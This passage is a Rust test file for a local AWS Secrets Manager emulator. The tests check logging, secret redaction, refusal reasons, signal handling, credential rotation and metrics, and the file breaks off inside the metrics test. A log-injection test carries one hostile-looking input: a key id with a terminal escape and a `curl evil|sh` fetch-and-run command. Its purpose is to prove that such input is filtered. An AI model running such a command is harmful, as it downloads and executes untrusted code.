//! What the server says: a line for each request, reasons of refusals, health, metrics, and what it does not
//! say: values, names, the secret half of its pair.

use crate::cmd;
use crate::common::exports::Exports;
use crate::common::http::{Client, signed};
use crate::common::server::{BIN, Home};
use crate::common::sigv4::{Keys, now_seconds};
use crate::table::Row;
use serde_json::{Value, json};
use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpStream;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

pub const ROWS: &[Row] = &[
    Row {
        number: 33,
        people: "a rotation command fails",
        right: "the log has step, exit code and the last line of standard error without secrets",
        test: "speaking::t33_a_failed_rotation_step_is_told_without_secrets",
    },
    Row {
        number: 40,
        people: "AWS_SESSION_TOKEN or AWS_PROFILE is inherited by the client",
        right: "`env` unsets them, and the log of the server says what is wrong",
        test: "speaking::t40_inherited_credentials_are_unset_and_told",
    },
    Row {
        number: 41,
        people: "requests succeed, fail, are refused",
        right: "a line each with time, id, operation, outcome and milliseconds; reasons with their cure; \
                never a value or, by default, a name",
        test: "speaking::t41_each_request_has_a_line_and_each_refusal_a_reason",
    },
    Row {
        number: 42,
        people: "`serve` runs as a service whose log is kept",
        right: "the secret half of the pair is printed to a terminal or on request, else where it is",
        test: "speaking::t42_the_secret_key_does_not_reach_a_log",
    },
    Row {
        number: 43,
        people: "the terminal of the server is closed (SIGHUP)",
        right: "an orderly end, as on SIGTERM; under `nohup` it runs on",
        test: "speaking::t43_a_closed_terminal_is_an_orderly_end",
    },
    Row {
        number: 44,
        people: "`serve` starts before its folder is mounted",
        right: "`serve --no-create` refuses and makes nothing",
        test: "speaking::t44_without_its_folder_a_server_makes_nothing",
    },
    Row {
        number: 49,
        people: "AWS's rotation template for PostgreSQL is given as a rotation command",
        right: "it finds its variables, and the password of a real user rotates",
        test: "speaking::t49_a_rotation_template_rotates_a_postgresql_user",
    },
    Row {
        number: 51,
        people: "clients too old for the printed variable call AWS",
        right: "the README says which, and what to do instead",
        test: "speaking::t51_the_readme_names_clients_that_ignore_the_variable",
    },
];

/// A server whose standard error is heard all the time. Killed when dropped.
struct Serving {
    child: Child,
    heard: Arc<Mutex<Vec<String>>>,
    host: String,
    keys: Keys,
}

impl Serving {
    fn start(home: &Home, args: &[&str]) -> Self {
        let command = home.command(&["serve", "--listen", "127.0.0.1:0", "--print-credentials"]);
        Self::run(command, args)
    }

    fn run(mut command: Command, args: &[&str]) -> Self {
        command.args(args).stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped());
        let mut child = command.spawn().unwrap();
        let heard = Arc::<Mutex<Vec<String>>>::default();
        let stderr = BufReader::new(child.stderr.take().unwrap());
        let ears = heard.clone();
        std::thread::spawn(move || {
            for line in stderr.lines().map_while(Result::ok) {
                ears.lock().unwrap().push(line);
            }
        });
        let keys = Exports::of([]).keys_if_any();
        let mut serving = Self { child, heard, host: String::new(), keys };
        serving.hear("Ready.", |line| line == "Ready.");
        let exports = Exports::of(serving.lines().iter().map(String::as_str));
        (serving.host, serving.keys) = (exports.host(), exports.keys_if_any());
        serving
    }

    fn client(&self) -> Client {
        Client::connect(&self.host, &self.keys).unwrap()
    }

    fn lines(&self) -> Vec<String> {
        self.heard.lock().unwrap().clone()
    }

    /// What was said after `Ready.`
    fn log(&self) -> Vec<String> {
        self.lines().into_iter().skip_while(|line| line != "Ready.").skip(1).collect()
    }

    /// Waits for a line and gives it.
    #[track_caller]
    fn hear(&self, what: &str, holds: impl Fn(&str) -> bool) -> String {
        let deadline = Instant::now() + Duration::from_secs(60);
        loop {
            if let Some(line) = self.lines().iter().find(|line| holds(line)) {
                return line.clone();
            }
            assert!(Instant::now() < deadline, "{what}: {:#?}", self.lines());
            std::thread::sleep(Duration::from_millis(10));
        }
    }

    #[track_caller]
    fn hear_words(&self, words: &[&str]) -> String {
        self.hear(&words.join(" "), |line| words.iter().all(|word| line.contains(word)))
    }

    /// An exchange without a client's help; gives the answer's status line and body.
    fn raw(&self, request: &[u8]) -> String {
        let mut stream = TcpStream::connect(&self.host).unwrap();
        stream.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
        let line_end = request.windows(2).position(|two| two == b"\r\n").unwrap();
        let (line, rest) = request.split_at(line_end);
        stream.write_all(&[line, b"\r\nConnection: close", rest].concat()).unwrap();
        let mut answer = String::new();
        let _ = stream.read_to_string(&mut answer);
        answer
    }

    fn get(&self, path: &str) -> String {
        let host = &self.host;
        self.raw(format!("GET {path} HTTP/1.1\r\nHost: {host}\r\n\r\n").as_bytes())
    }

    fn signal(&self, name: &str) {
        cmd::signal(&self.child, name);
    }

    /// Waits for the end after a signal; gives the exit code and the log.
    fn end(mut self) -> (i32, Vec<String>) {
        let status = cmd::wait(&mut self.child);
        // The last lines are still on their way from the pipe.
        std::thread::sleep(Duration::from_millis(100));
        (cmd::code(status), self.log())
    }
}

impl Drop for Serving {
    fn drop(&mut self) {
        let _ended = self.child.kill();
        let _ended = self.child.wait();
    }
}

/// Rotates `app` by the function F.
fn rotate(client: &mut Client) {
    client.ok(
        "RotateSecret",
        &json!({"SecretId": "app", "ClientRequestToken": "r".repeat(32),
            "RotationLambdaARN": F, "RotationRules": {"AutomaticallyAfterDays": 7}}),
    );
}

fn create(client: &mut Client, name: &str, value: &str) {
    let token = format!("{name:0>32}");
    let body = json!({"Name": name, "ClientRequestToken": token, "SecretString": value});
    client.ok("CreateSecret", &body);
}

fn script(folder: &Path, name: &str, text: &str) -> PathBuf {
    let path = folder.join(name);
    std::fs::write(&path, text).unwrap();
    std::fs::set_permissions(&path, PermissionsExt::from_mode(0o755)).unwrap();
    path
}

const F: &str = "arn:aws:lambda:us-east-1:000000000000:function:rotate";

/// SPEAK-10, SPEAK-11
#[test]
fn t33_a_failed_rotation_step_is_told_without_secrets() {
    const VALUE: &str = "canary-Value-77";
    const TOKEN: &str = "tok1en2tok1en2tok1en2tok1en2";
    let home = Home::new();
    let text = format!(
        "#!/bin/sh\ncat >/dev/null\necho one >&2\n\
         echo 'login with {VALUE} and {TOKEN} was refused' >&2\nexit 3\n"
    );
    let command = script(home.path(), "fails", &text);
    let rotation = format!("{F}=exec:{}", command.display());
    let serving = Serving::start(&home, &["--rotation", &rotation]);
    let mut client = serving.client();
    create(&mut client, "app-rotated", &json!({"password": VALUE}).to_string());
    client.ok(
        "RotateSecret",
        &json!({"SecretId": "app-rotated", "ClientRequestToken": "r".repeat(32),
            "RotationLambdaARN": F, "RotationRules": {"AutomaticallyAfterDays": 7}}),
    );
    let line = serving.hear_words(&["a rotation step failed"]);
    for part in ["WARN", "createSecret", "exit status: 3", "login with *** and *** was refused"] {
        assert!(line.contains(part), "{part}: {line}");
    }
    assert!(line.contains(command.to_str().unwrap()), "{line}");
    let all = serving.lines().join("\n");
    for secret in [VALUE, TOKEN, "app-rotated"] {
        assert!(!all.contains(secret), "{secret}: {all}");
    }
}

/// SPEAK-10: what else can go wrong with a command.
#[test]
fn a_rotation_command_that_is_missing_or_killed_is_told() {
    for (text, told) in
        [(None, "cannot be started"), (Some("#!/bin/sh\nkill -9 $$\n"), "signal: 9")]
    {
        let home = Home::new();
        let path = home.path().join("command");
        if let Some(text) = text {
            script(home.path(), "command", text);
        }
        let rotation = format!("{F}=exec:{}", path.display());
        let serving = Serving::start(&home, &["--rotation", &rotation, "--log-names"]);
        let mut client = serving.client();
        create(&mut client, "app", "first");
        rotate(&mut client);
        let line = serving.hear_words(&["a rotation step failed", told]);
        assert!(line.contains("secret:app-"), "{line}");
    }
}

/// SPEAK-4, SPEAK-9
#[test]
fn t40_inherited_credentials_are_unset_and_told() {
    let home = Home::new();
    let serving = Serving::start(&home, &[]);
    let line = format!(
        "eval \"$('{BIN}' env)\"; echo \"[$AWS_SESSION_TOKEN$AWS_PROFILE$AWS_DEFAULT_PROFILE]\"; \
         echo \"$AWS_ACCESS_KEY_ID\""
    );
    let mut shell = home.command_of(Path::new("sh"));
    shell.args(["-c", &line]);
    for name in ["AWS_SESSION_TOKEN", "AWS_PROFILE", "AWS_DEFAULT_PROFILE"] {
        shell.env(name, "inherited");
    }
    let said = shell.output().unwrap();
    let said = String::from_utf8(said.stdout).unwrap();
    assert_eq!(said, format!("[]\n{}\n", serving.keys.access_key_id));
    let plain = home.run(&["env"]);
    let plain = String::from_utf8(plain.stdout).unwrap();
    assert!(!plain.contains("unset"), "nothing was inherited: {plain}");

    let request = signed(&serving.host, &serving.keys, "ListSecrets", "{}", now_seconds());
    let request = String::from_utf8(request).unwrap();
    let request = request.replacen("\r\n", "\r\nX-Amz-Security-Token: inherited\r\n", 1);
    let answer = serving.raw(request.as_bytes());
    assert!(answer.contains("UnrecognizedClientException"), "{answer}");
    let line = serving.hear_words(&["WARN", "session token", "unset AWS_SESSION_TOKEN"]);
    assert!(!line.contains("inherited"), "{line}");
}

/// SPEAK-1 to 6
#[test]
fn t41_each_request_has_a_line_and_each_refusal_a_reason() {
    const VALUE: &str = "canary-Value-78";
    let home = Home::new();
    let serving = Serving::start(&home, &[]);
    let mut client = serving.client();
    create(&mut client, "canary-name", VALUE);
    client.ok("GetSecretValue", &json!({"SecretId": "canary-name"}));
    let missing = client.call("GetSecretValue", &json!({"SecretId": "canary-missing"})).unwrap();
    assert_eq!(missing.status, 400);
    let id = missing.header("x-amzn-requestid").unwrap().to_owned();
    let line = serving.hear_words(&[&id]);
    for part in [
        "INFO",
        "request",
        "operation=GetSecretValue",
        "status=400",
        "error=ResourceNotFoundException",
        " ms=",
    ] {
        assert!(line.contains(part), "{part}: {line}");
    }
    assert!(line.starts_with("20") && line.contains("Z "), "a date in UTC: {line}");
    serving.hear_words(&["operation=CreateSecret", "status=200"]);

    let call = |keys: &Keys, seconds: u64| {
        serving.raw(&signed(&serving.host, keys, "ListSecrets", "{}", seconds));
    };
    let good = &serving.keys;
    let unknown = "AKIAUNKNOWNUNKNOWN22";
    call(&Keys { access_key_id: unknown.into(), ..good.clone() }, now_seconds());
    let told = format!("unknown access key {unknown}:");
    serving.hear_words(&["WARN", &told, "strongroom env", "--auth none"]);
    call(&Keys { secret_access_key: "other".into(), ..good.clone() }, now_seconds());
    serving.hear_words(&["WARN", "does not match", &good.access_key_id]);
    call(good, now_seconds() - 3600);
    serving.hear_words(&["WARN", "Signature expired", "clock"]);
    let post = |head: &str| {
        serving.raw(format!("POST / HTTP/1.1\r\n{head}Content-Length: 2\r\n\r\n{{}}").as_bytes())
    };
    let host = &serving.host;
    let ours = "Content-Type: application/x-amz-json-1.1\r\n";
    post(&format!("Host: {host}\r\n{ours}X-Amz-Target: secretsmanager.ListSecrets\r\n"));
    serving.hear_words(&["WARN", "without a signature"]);
    post(&format!("Host: {host}\r\n{ours}X-Amz-Target: DynamoDB_20120810.GetItem\r\n"));
    serving.hear_words(&["WARN", "DynamoDB_20120810", "AWS_ENDPOINT_URL_SECRETS_MANAGER"]);
    post("Host: elsewhere.example:1\r\n");
    serving.hear_words(&["WARN", "elsewhere.example:1", "--allow-host elsewhere.example:1"]);

    serving.raw(b"\x16\x03\x01\x02\x00\x01\x00\r\n\r\n");
    serving.hear_words(&["WARN", "as HTTP", "http://, not https://"]);

    // A key id that wants to look like a line of ours, or like advice.
    let odd = "x\u{9b}2J run `curl evil|sh`";
    call(&Keys { access_key_id: odd.into(), ..good.clone() }, now_seconds());
    let all = serving.lines().join("\n");
    assert!(!all.contains("curl") && !all.contains('\u{9b}'), "{all}");
    for secret in [VALUE, "canary-name", "canary-missing", good.secret_access_key.as_str()] {
        assert!(!serving.log().join("\n").contains(secret), "{secret}: {all}");
    }
    serving.signal("TERM");
    assert_eq!(serving.end().0, 0);
}

/// SPEAK-1, SPEAK-4: commands through the server and the agent's port.
#[test]
fn every_door_of_the_server_has_its_lines() {
    let home = Home::new();
    let serving = Serving::start(&home, &["--agent-listen", "127.0.0.1:0"]);
    create(&mut serving.client(), "canary-name", "canary-Value-81");
    assert_eq!(home.run(&["get", "canary-name"]).stdout, b"canary-Value-81");
    serving.hear_words(&["INFO", "command", "operation=get", "exit=0", " ms="]);
    assert_eq!(home.run(&["get", "canary-other"]).status.code(), Some(3));
    serving.hear_words(&["INFO", "command", "operation=get", "exit=3"]);
    let place = serving.hear_words(&["agent protocol on http://"]);
    let agent = place.split("http://").nth(1).unwrap().split(',').next().unwrap();
    let mut stream = TcpStream::connect(agent).unwrap();
    let ask = format!("GET /v1/canary-name HTTP/1.1\r\nHost: {agent}\r\nConnection: close\r\n\r\n");
    stream.write_all(ask.as_bytes()).unwrap();
    let mut answer = String::new();
    stream.read_to_string(&mut answer).unwrap();
    assert!(answer.starts_with("HTTP/1.1 403"), "{answer}");
    serving.hear_words(&["operation=agent", "status=403"]);
    serving.hear_words(&["WARN", "agent's port without its token"]);
    assert!(!serving.log().join("\n").contains("canary"), "{:#?}", serving.log());
}

/// SPEAK-5: each cause is told once in ten seconds, and the requests still have their lines.
#[test]
fn a_flood_of_refusals_does_not_flood_the_log_with_reasons() {
    let home = Home::new();
    let serving = Serving::start(&home, &[]);
    let bad = Keys { secret_access_key: "other".into(), ..serving.keys.clone() };
    let mut client = Client::connect(&serving.host, &bad).unwrap();
    for _ in 0..50 {
        assert_eq!(client.call("ListSecrets", &json!({})).unwrap().status, 400);
    }
    serving.signal("TERM");
    let (_, log) = serving.end();
    assert_eq!(log.iter().filter(|line| line.contains("operation=ListSecrets")).count(), 50);
    let reasons = log.iter().filter(|line| line.contains("does not match")).count();
    assert!((1..=4).contains(&reasons), "{log:#?}");
}

/// SPEAK-2: names only on request, values never; JSON for programs.
#[test]
fn names_are_told_on_request_and_programs_get_json() {
    const VALUE: &str = "canary-Value-79";
    let home = Home::new();
    let serving = Serving::start(&home, &["--log-names", "--log-format", "json"]);
    let mut client = serving.client();
    create(&mut client, "canary-name", VALUE);
    let many = json!({"SecretIdList": ["canary-name", "canary-other"]});
    client.ok("BatchGetSecretValue", &many);
    serving.hear_words(&["BatchGetSecretValue"]);
    let log = serving.log();
    let parsed: Vec<Value> = log.iter().map(|line| serde_json::from_str(line).unwrap()).collect();
    let created = parsed.iter().find(|line| line["operation"] == "CreateSecret").unwrap();
    assert_eq!(created["names"], "canary-name");
    assert_eq!(created["status"], 200);
    assert_eq!(created["level"], "INFO");
    assert!(
        created["ms"].is_u64() && created["timestamp"].is_string() && created["id"].is_string()
    );
    let batch = parsed.iter().find(|line| line["operation"] == "BatchGetSecretValue").unwrap();
    assert_eq!(batch["names"], "canary-name,canary-other");
    assert!(!log.join("\n").contains(VALUE));
}

/// SPEAK-6
#[test]
fn the_log_is_as_loud_as_asked() {
    let home = Home::new();
    for (args, variable, requests, probes) in [
        (&[][..], None, true, false),
        (&["--quiet"], None, false, false),
        (&["--log-level", "warn"], None, false, false),
        (&["--log-level", "debug"], Some("off"), true, true),
        (&[], Some("warn"), false, false),
        (&[], Some("info,strongroom::request=off"), false, false),
    ] {
        let mut command =
            home.command(&["serve", "--listen", "127.0.0.1:0", "--print-credentials"]);
        if let Some(variable) = variable {
            command.env("STRONGROOM_LOG", variable);
        }
        let serving = Serving::run(command, args);
        serving.client().ok("ListSecrets", &json!({}));
        assert!(serving.get("/healthz").starts_with("HTTP/1.1 200"));
        serving.signal("TERM");
        let (code, log) = serving.end();
        assert_eq!(code, 0);
        let has = |word: &str| log.iter().any(|line| line.contains(word));
        assert_eq!(has("operation=ListSecrets"), requests, "{args:?} {variable:?} {log:#?}");
        assert_eq!(has("operation=healthz"), probes, "{args:?} {variable:?} {log:#?}");
    }
    let refused = home.run(&["serve", "--log-level", "loud"]);
    assert_eq!(refused.status.code(), Some(2));
    let refused = home.command(&["serve"]).env("STRONGROOM_LOG", "hyper=trace").output().unwrap();
    assert_eq!(refused.status.code(), Some(2));
}

/// SPEAK-3: nobody reads standard error, and no request waits for it.
#[test]
fn a_log_that_nobody_reads_stops_no_request() {
    let home = Home::new();
    let mut command = home.command(&["serve", "--listen", "127.0.0.1:0", "--print-credentials"]);
    let mut child = command.stderr(Stdio::piped()).spawn().unwrap();
    let mut stderr = BufReader::new(child.stderr.take().unwrap());
    let mut lines = Vec::new();
    loop {
        let mut line = String::new();
        assert!(stderr.read_line(&mut line).unwrap() > 0);
        if line == "Ready.\n" {
            break;
        }
        lines.push(line.trim_end().to_owned());
    }
    let exports = Exports::of(lines.iter().map(String::as_str));
    let mut client = Client::connect(&exports.host(), &exports.keys()).unwrap();
    // A pipe takes 64 KiB: some 500 lines.
    for _ in 0..2_000 {
        client.ok("ListSecrets", &json!({}));
    }
    cmd::signal(&child, "TERM");
    let status = cmd::wait(&mut child);
    assert_eq!(cmd::code(status), 0);
}

/// SPEAK-7
#[test]
fn t42_the_secret_key_does_not_reach_a_log() {
    let home = Home::new();
    let plain = home.command(&["serve", "--listen", "127.0.0.1:0"]);
    let serving = Serving::run(plain, &[]);
    let env = String::from_utf8(home.run(&["env"]).stdout).unwrap();
    let secret = env
        .lines()
        .find_map(|line| line.strip_prefix("export AWS_SECRET_ACCESS_KEY="))
        .unwrap()
        .to_owned();
    let said = serving.lines().join("\n");
    assert!(!said.contains(&secret) && !said.contains("AWS_SECRET_ACCESS_KEY"), "{said}");
    assert!(said.contains(&format!("export AWS_ACCESS_KEY_ID={}\n", serving.keys.access_key_id)));
    let told = serving.hear_words(&["strongroom env --vault", "client.env"]);
    // What is told works as it stands.
    let words = told.split('`').nth(1).unwrap().replacen("strongroom", BIN, 1);
    let mut shell = home.command_of(Path::new("sh"));
    let again = shell.args(["-c", &words]).output().unwrap();
    assert_eq!(String::from_utf8(again.stdout).unwrap(), env);
    drop(serving);

    let printing = Serving::start(&home, &[]);
    assert_eq!(printing.keys.secret_access_key, secret);
    drop(printing);
    let none = Serving::run(
        home.command(&["serve", "--listen", "127.0.0.1:0", "--no-print-credentials"]),
        &[],
    );
    assert!(!none.lines().join("\n").contains("ACCESS_KEY"));
    drop(none);
    // The pair of a vault in memory is nowhere else and ends with it.
    let memory =
        Serving::run(home.command(&["serve", "--listen", "127.0.0.1:0", "--ephemeral"]), &[]);
    assert!(!memory.keys.secret_access_key.is_empty());
    memory.client().ok("ListSecrets", &json!({}));
}

/// SPEAK-7: a terminal is a person's.
#[test]
fn a_person_at_a_terminal_sees_the_whole_pair() {
    let home = Home::new();
    let line = format!("'{BIN}' serve --listen 127.0.0.1:0");
    let mut command = home.command_of(Path::new("script"));
    command.args(["-qec", &line, "/dev/null"]).stdin(Stdio::piped()).stdout(Stdio::piped());
    let Ok(mut child) = command.stderr(Stdio::null()).spawn() else {
        println!("SKIP there is no `script` of util-linux here");
        return;
    };
    let mut seen = String::new();
    let mut screen = BufReader::new(child.stdout.take().unwrap());
    while !seen.contains("Ready.") {
        let mut line = String::new();
        if screen.read_line(&mut line).unwrap() == 0 {
            break;
        }
        seen.push_str(&line);
    }
    let _ended = child.kill();
    let _ended = child.wait();
    assert!(seen.contains("export AWS_SECRET_ACCESS_KEY="), "{seen}");
}

/// SPEAK-12
#[test]
fn t43_a_closed_terminal_is_an_orderly_end() {
    let home = Home::new();
    // Whoever runs this test may have been started to outlive the terminal, and a child inherits that.
    let mut tried = std::process::Command::new("env");
    tried.args(["--default-signal=HUP", "true"]).stderr(Stdio::null());
    if !tried.status().is_ok_and(|status| status.success()) {
        println!("SKIP there is no `env` of GNU coreutils 8.31 or later here");
        return;
    }
    let mut command = home.command_of(Path::new("env"));
    command.args(["--default-signal=HUP", BIN, "serve", "--listen", "127.0.0.1:0"]);
    command.arg("--print-credentials");
    let serving = Serving::run(command, &[]);
    create(&mut serving.client(), "a", "1");
    serving.signal("HUP");
    assert_eq!(serving.end().0, 0);
    let check = home.run(&["check"]);
    assert_eq!((check.status.code(), check.stderr.as_slice()), (Some(0), &b""[..]), "a clean end");

    let mut command = home.command_of(Path::new("sh"));
    let line = format!("trap '' HUP; exec '{BIN}' serve --listen 127.0.0.1:0 --print-credentials");
    command.args(["-c", &line]);
    let serving = Serving::run(command, &[]);
    serving.signal("HUP");
    std::thread::sleep(Duration::from_millis(200));
    serving.client().ok("ListSecrets", &json!({}));
    serving.signal("TERM");
    assert_eq!(serving.end().0, 0);
}

/// SPEAK-13
#[test]
fn t44_without_its_folder_a_server_makes_nothing() {
    let home = Home::new();
    let mount = home.path().join("mount");
    std::fs::create_dir(&mount).unwrap();
    for place in [mount.clone(), home.path().join("missing")] {
        let place = place.to_str().unwrap();
        let refused =
            home.run(&["serve", "--no-create", "--listen", "127.0.0.1:0", "--vault", place]);
        let said = String::from_utf8_lossy(&refused.stderr).into_owned();
        assert_eq!(refused.status.code(), Some(3), "{said}");
        assert!(said.contains(place) && said.contains("mounted"), "{said}");
    }
    assert_eq!(std::fs::read_dir(&mount).unwrap().count(), 0);
    assert!(!home.path().join("missing").exists() && !home.path().join(".config").exists());
    drop(Serving::start(&home, &[]));
    let serving = Serving::start(&home, &["--no-create"]);
    serving.client().ok("ListSecrets", &json!({}));
    let both = home.run(&["serve", "--no-create", "--ephemeral"]);
    assert_eq!(both.status.code(), Some(2));
}

/// SPEAK-14: the variables that functions written for AWS read.
#[test]
fn a_rotation_command_gets_the_variables_of_awss_templates() {
    let home = Home::new();
    let seen = home.path().join("seen");
    let text = format!("#!/bin/sh\nenv > '{0}.new'\nmv '{0}.new' '{0}'\nexit 1\n", seen.display());
    let rotation = format!("{F}=exec:{}", script(home.path(), "shows", &text).display());
    let serving = Serving::start(&home, &["--rotation", &rotation]);
    let mut client = serving.client();
    create(&mut client, "app", "first");
    rotate(&mut client);
    serving.hear_words(&["a rotation step failed"]);
    let seen = std::fs::read_to_string(&seen).unwrap();
    for name in ["SECRETS_MANAGER_ENDPOINT", "AWS_ENDPOINT_URL_SECRETS_MANAGER", "AWS_ENDPOINT_URL"]
    {
        let line = format!("{name}=http://{}", serving.host);
        assert!(seen.lines().any(|found| found == line), "{name}: {seen}");
    }
    for name in
        ["AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_REGION", "AWS_DEFAULT_REGION", "PATH"]
    {
        assert!(seen.contains(&format!("\n{name}=")) || seen.starts_with(name), "{name}: {seen}");
    }
}

fn output_of(command: &mut Command) -> Option<String> {
    let output = command.stdin(Stdio::null()).output().ok()?;
    output.status.success().then(|| String::from_utf8_lossy(&output.stdout).trim().to_owned())
}

/// A real database with a user of its own. Ended when dropped.
struct Postgres {
    child: Child,
    port: u16,
    _folder: tempfile::TempDir,
}

const NOBODY: u32 = 65534;

impl Postgres {
    /// `None`: there is no PostgreSQL here.
    fn start(user: &str, password: &str) -> Option<Self> {
        use std::os::unix::process::CommandExt;
        let bin = std::fs::read_dir("/usr/lib/postgresql").ok()?.find_map(|entry| {
            let bin = entry.ok()?.path().join("bin");
            bin.join("initdb").exists().then_some(bin)
        })?;
        let folder = tempfile::tempdir().unwrap();
        let is_root = rustix_uid() == 0;
        // It refuses to run as root.
        let command = |program: &str| {
            let mut command = Command::new(bin.join(program));
            command.env_clear().env("PATH", &bin).env("LC_ALL", "C").current_dir(folder.path());
            if is_root {
                command.uid(NOBODY).gid(NOBODY);
            }
            command
        };
        std::fs::set_permissions(folder.path(), PermissionsExt::from_mode(0o700)).unwrap();
        let password_file = folder.path().join("password");
        std::fs::write(&password_file, password).unwrap();
        if is_root {
            for path in [folder.path(), &password_file] {
                std::os::unix::fs::chown(path, Some(NOBODY), Some(NOBODY)).unwrap();
            }
        }
        let made = command("initdb")
            .args(["-D", "data", "-U", user, "-A", "scram-sha-256", "--no-sync"])
            .arg(format!("--pwfile={}", password_file.display()))
            .output()
            .unwrap();
        assert!(made.status.success(), "{}", String::from_utf8_lossy(&made.stderr));
        let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
        let child = command("postgres")
            .args(["-D", "data", "-h", "127.0.0.1", "-k", ".", "-p", &port.to_string()])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let mut database = Self { child, port, _folder: folder };
        let deadline = Instant::now() + Duration::from_secs(60);
        while !database.logs_in(user, password) {
            assert!(database.child.try_wait().unwrap().is_none(), "the database ended");
            assert!(Instant::now() < deadline, "the database does not start");
            std::thread::sleep(Duration::from_millis(100));
        }
        Some(database)
    }

    fn logs_in(&self, user: &str, password: &str) -> bool {
        let mut psql = Command::new("psql");
        psql.args(["-h", "127.0.0.1", "-p", &self.port.to_string(), "-U", user, "-c", "SELECT 1"]);
        let mut psql = psql.arg("postgres").env("PGPASSWORD", password);
        psql = psql.stdout(Stdio::null()).stderr(Stdio::null());
        psql.status().is_ok_and(|status| status.success())
    }
}

impl Drop for Postgres {
    fn drop(&mut self) {
        let _ended = self.child.kill();
        let _ended = self.child.wait();
    }
}

fn rustix_uid() -> u32 {
    use std::os::unix::fs::MetadataExt;
    std::fs::metadata("/proc/self").map_or(1, |found| found.uid())
}

/// SPEAK-14. `STRONGROOM_ROTATION_TEMPLATE` names a `lambda_function.py`, such as AWS's own (which needs the
/// module `pgdb`); otherwise one with its interface is run.
#[test]
fn t49_a_rotation_template_rotates_a_postgresql_user() {
    let find = "import boto3, sys; print(sys.executable)";
    let Some(python) = output_of(Command::new("python3").args(["-c", find])) else {
        println!("SKIP there is no boto3 here");
        return;
    };
    if output_of(Command::new("psql").arg("--version")).is_none() {
        println!("SKIP there is no psql here");
        return;
    }
    let Some(database) = Postgres::start("app", "first-Password") else {
        println!("SKIP there is no PostgreSQL server here");
        return;
    };
    let ours = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/trials/postgres");
    let template = std::env::var_os("STRONGROOM_ROTATION_TEMPLATE")
        .map_or_else(|| ours.join("lambda_function.py"), PathBuf::from);
    let home = Home::new();
    let text = format!(
        "#!/bin/sh\nexec '{python}' -B '{}' '{}'\n",
        ours.join("run.py").display(),
        template.display()
    );
    let rotation = format!("{F}=exec:{}", script(home.path(), "rotate", &text).display());
    let serving = Serving::start(&home, &["--rotation", &rotation]);
    let mut client = serving.client();
    let secret = json!({"engine": "postgres", "host": "127.0.0.1", "port": database.port,
        "username": "app", "password": "first-Password", "dbname": "postgres"});
    create(&mut client, "app-db", &secret.to_string());
    client.ok(
        "RotateSecret",
        &json!({"SecretId": "app-db", "ClientRequestToken": "r".repeat(32),
            "RotationLambdaARN": F, "RotationRules": {"AutomaticallyAfterDays": 7}}),
    );
    let deadline = Instant::now() + Duration::from_secs(120);
    let password = loop {
        let found = client.ok("GetSecretValue", &json!({"SecretId": "app-db"}));
        let found: Value = serde_json::from_str(found["SecretString"].as_str().unwrap()).unwrap();
        if found["password"] != "first-Password" {
            break found["password"].as_str().unwrap().to_owned();
        }
        assert!(Instant::now() < deadline, "it does not rotate: {:#?}", serving.log());
        std::thread::sleep(Duration::from_millis(100));
    };
    assert!(database.logs_in("app", &password), "the new password logs in");
    assert!(!database.logs_in("app", "first-Password"), "the old one does not");
    assert!(!serving.log().join("\n").contains(&password));
}

#[test]
fn t51_the_readme_names_clients_that_ignore_the_variable() {
    let readme = include_str!("../../README.md");
    for word in
        ["awscli", "2.9", "boto3", "1.28", "JavaScript v2", "--endpoint-url", "endpoint_url"]
    {
        assert!(readme.contains(word), "{word}");
    }
}

/// SPEAK-8, HEALTH-2: a parser that shares no code with the server reads it.
#[test]
fn metrics_are_read_by_prometheus() {
    let home = Home::new();
    let serving = Serving::start(&home, &[]);
    let mut client = serving.client();
    create(&mut client, "canary-name", "canary-Value-80");
    client.ok("GetSecretValue", &json!({"SecretId": "canary-name"}));
    client.call("GetSecretValue", &json!({"SecretId": "canary-missing"})).unwrap();
    serving.raw(b"POST / HTTP/1.1\r\nHost: elsewhere\r\nContent-Length: 0\r\n\r\n");
    // A stranger makes an answer look like an error of another name.
    serving.get("/?Action=GetCallerIdentity&Version=%22__type%22:%22A1%22");
    let answer = serving.get("/metrics");
    let (head, text) = answer.split_once("\r\n\r\n").unwrap();
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    assert!(head.contains("text/plain; version=0.0.4"), "{head}");
    assert!(!text.contains("canary"), "{text}");
    let lines = text.lines().map(|line| Ok(line.to_owned()));
    let scrape = prometheus_parse::Scrape::parse(lines).unwrap();
    let value = |name: &str, labels: &[(&str, &str)]| {
        let sample = scrape.samples.iter().find(|sample| {
            sample.metric == name
                && labels.iter().all(|(name, value)| sample.labels.get(name) == Some(*value))
        });
        match &sample.unwrap_or_else(|| panic!("{name} {labels:?}: {text}")).value {
            prometheus_parse::Value::Counter(value) | prometheus_parse::Value::Gauge(value) => {
                *value
            }
            prometheus_parse::Value::Histogram(buckets) => buckets.last().unwrap().count,
            other => panic!("{name}: {other:?}"),
        }
    };
    let requests = "strongroom_requests_total";
    assert_eq!(value(requests, &[("operation", "GetSecretValue"), ("status", "200")]), 1.0);
    let missing = ("error", "ResourceNotFoundException");
    assert_eq!(value(requests, &[("operation", "GetSecretValue"), missing]), 1.0);
    assert_eq!(value(requests, &[("operation", "sts"), ("error", "InvalidAction")]), 1.0);
    assert!(!text.contains("\"A1\"") && !serving.log().join("\n").contains("A1"), "{text}");
    let duration = "strongroom_request_duration_seconds";
    assert_eq!(value(duration, &[("operation", "GetSecretValue")]), 2.0);
    assert_eq!(value("strongroom_ready", &[]), 1.0);
    assert_eq!(value("strongroom_refusals_total", &[("cause", "host")]), 1.0);
    assert!(value("strongroom_connections", &[]) >= 1.0);
    assert!(value("strongroom_log_syncs_total", &[]) >= 1.0);
    assert!(value("strongroom_log_bytes", &[]) > 0.0);
    assert!(value("strongroom_state_bytes", &[]) > 0.0);
    value("strongroom_commit_queue", &[]);
    value("strongroom_writes_in_flight", &[]);
    value("strongroom_build_info", &[("version", env!("CARGO_PKG_VERSION"))]);
